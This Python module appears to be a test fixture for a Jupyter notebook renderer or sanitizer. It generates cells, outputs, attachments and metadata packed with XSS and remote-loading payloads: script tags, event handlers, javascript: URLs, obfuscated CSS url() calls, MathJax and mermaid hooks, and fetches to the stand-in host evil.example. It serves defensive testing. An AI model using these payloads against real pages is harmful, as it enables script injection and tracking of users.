"""Ways to run a script in a page, to load something from elsewhere, or to lie over the page."""

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

RUN = "window.ran=1;fetch('https://evil.example/ran')"
FAR = "https://evil.example"

HTML = [
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC={FAR}/1.js></SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f'<img src=x onerror="{RUN}">',
    f"<img/src=x/onerror={RUN}>",
    f'<svg onload="{RUN}">',
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s>',
    f'<svg><use href="{FAR}/2.svg#x"></use><image href="{FAR}/2.png"></image></svg>',
    f'<math><mtext><img src=x onerror="{RUN}"></mtext></math>',
    f'<math><mi//xlink:href="data:x,<script>{RUN}</script>">',
    f'<iframe src="{FAR}/3"></iframe>',
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<object data="{FAR}/4"></object><embed src="{FAR}/5"><applet code="{FAR}/6">',
    f'<form action="{FAR}/7"><input autofocus onfocus="{RUN}"><button>x</button></form>',
    f'<meta http-equiv="refresh" content="0;url={FAR}/8">',
    f'<base href="{FAR}/"><img src="9.png"><link rel="stylesheet" href="10.css">',
    f'<link rel="prefetch" href="{FAR}/11"><link rel="dns-prefetch" href="//evil.example">',
    f"<style>@import url({FAR}/12.css);body{{background:url({FAR}/13)}}</style>",
    f'<p style="background:url({FAR}/14)">x</p>',
    f"<p style=\"background-image:image-set('{FAR}/15' 1x)\">x</p>",
    f'<p style="border-image:u\\72l({FAR}/16)">x</p>',
    f"<p style=\"background:#fff;b\\61ckground:URL('{FAR}/17')\">x</p>",
    '<p style="position:fixed;top:0;left:0;width:9999px;height:9999px;margin:-99px">over</p>',
    f'<img src="{FAR}/18.png" srcset="{FAR}/19.png 2x" alt="far">',
    f'<picture><source srcset="{FAR}/20.png"><img src="{FAR}/21.png"></picture>',
    f'<video src="{FAR}/22" poster="{FAR}/23" autoplay><track src="{FAR}/24"></video>',
    f'<audio src="{FAR}/25" autoplay onerror="{RUN}"></audio>',
    f'<table background="{FAR}/26"><tr><td background="{FAR}/27">x</table>',
    f'<body background="{FAR}/28" onload="{RUN}">',
    f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    f'<a href="javascript:{RUN}">click</a>',
    f'<a href=" &#1; java&#x09;script:{RUN}">click</a>',
    f'<a href="data:text/html,<script>{RUN}</script>" target="_top">click</a>',
    '<a href="handed_in.html">click</a>',
    f'<a href="{FAR}/29" ping="{FAR}/30">a link that one may click on</a>',
    f'<marquee onstart="{RUN}">x</marquee><xss onpointerrawupdate="{RUN}">x</xss>',
    f'<div><noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript></div>',
    f"<!--[if gte IE 4]><script>{RUN}</script><![endif]--><!-- --!><img src=x onerror={RUN}> -->",
    f"<textarea></textarea><script>{RUN}</script><title></title><script>{RUN}</script>",
    f'<template shadowrootmode="open"><img src=x onerror="{RUN}"></template>',
    f"<p class='navbar-fixed-top comment-box' id='comment-box' onclick='{RUN}'>x</p>",
    f"<script type='text/x-mathjax-config'>{RUN}</script>",
]
MARKDOWN = [
    f"[click](javascript:{RUN})",
    f"[click][r]\n\n[r]: javascript:{RUN}",
    f"![far]({FAR}/40.png)",
    f"![far][p]\n\n[p]: {FAR}/41.png",
    "![missing](attachment:nothing.png)",
    f"<javascript:{RUN}>",
    f'```mermaid\ngraph LR\nclick a href "javascript:{RUN}"\n```',
    f"$\\href{{javascript:{RUN}}}{{x}}$ $\\require{{{FAR}/42}}$",
    f"$\\style{{background:url({FAR}/43)}}{{x}}$",
    f"$$\\mmlToken{{mi}}[href='javascript:{RUN}']{{x}}$$",
    f"# <img src=x onerror={RUN}>",
    f"```python\n<img src=x onerror={RUN}>\n```",
    f"````{{.x onclick={RUN}}}\nx\n````",
]
_SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>'


def _shown(data: dict[str, object], **metadata: object) -> NotebookNode:
    return new_output("display_data", data, metadata=metadata)


def hostile_cells() -> list[NotebookNode]:
    """Return cells with all of these in their text and in every kind of output."""
    outputs = [_shown({"text/html": html}) for html in HTML]
    outputs += [_shown({"text/markdown": text}) for text in (*HTML, *MARKDOWN)]
    outputs += [
        _shown({"image/svg+xml": _SVG}),
        _shown({"application/javascript": RUN, "text/plain": "x"}),
        _shown({"text/vnd.mermaid": RUN, "application/pdf": "x"}),
        _shown({"text/latex": f"\\href{{javascript:{RUN}}}{{x}}</div>{HTML[3]}"}),
        _shown({"image/png": f'x" onerror="{RUN}'}),
        _shown({"image/png": "QUJD"}, filenames={"image/png": f"{FAR}/50.png"}),
        _shown({"image/jpeg": "QUJD"}, **{"image/jpeg": {"width": f"1 onerror={RUN}"}}),
        _shown({"text/html": HTML[0]}, **{"text/html": {"isolated": True}}),
        _shown({"application/vnd.jupyter.widget-view+json": {"model_id": "x"}}),
        _shown({"text/plain": f"\x1b[38;2;1;2;3m{HTML[3]}\x1b[0m"}),
        new_output("stream", text=f"{HTML[0]}\x1b[31m{HTML[3]}"),
        new_output("error", ename=HTML[3], evalue=HTML[0], traceback=[HTML[3], HTML[0]]),
    ]
    # A cell shows 40 outputs at most.
    blocks = [outputs[start : start + 20] for start in range(0, len(outputs), 20)]
    cells = [new_code_cell(f"{HTML[0]}{HTML[3]}", outputs=block) for block in blocks]
    cells += [new_markdown_cell(text) for text in (*HTML, *MARKDOWN)]
    cells += [new_raw_cell(HTML[3]), new_raw_cell(HTML[0], metadata={"raw_mimetype": "text/html"})]
    attached = new_markdown_cell("![a](attachment:a) ![b](attachment:b)")
    attached["attachments"] = {
        "a": {"image/svg+xml": _SVG},
        "b": {"image/png": f'x"><script>{RUN}</script>'},
    }
    return [*cells, attached]


def hostile_metadata() -> dict[str, object]:
    """Return notebook metadata that would load and run something."""
    state = {"x": {"model_name": HTML[0]}}
    return {
        "title": f"</title>{HTML[0]}",
        "widgets": {"application/vnd.jupyter.widget-state+json": state},
        "language_info": {"name": f'"><script>{RUN}</script>', "pygments_lexer": HTML[3]},
    }
